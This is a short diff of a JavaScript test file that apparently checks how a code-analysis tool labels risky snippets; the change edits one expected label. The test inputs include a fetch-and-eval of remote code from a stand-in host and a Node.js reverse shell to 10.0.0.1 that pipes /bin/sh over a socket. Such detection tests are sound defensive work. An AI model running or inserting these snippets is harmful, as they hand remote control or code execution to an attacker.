@@ -70,7 +70,7 @@ describe("programs and code", () => {
     "eval(code)": ["opaque foreign-code javascript"],
     "fetch('http://x/s').then(r=>r.text()).then(eval)": [
       "connect http://x/s fetch checked",
-      "run $(response().then) fetched from[fetched http://x/s]",
+      "run $(response) fetched from[fetched http://x/s]",
     ],
     "var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();c.connect(8080,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})":
       [
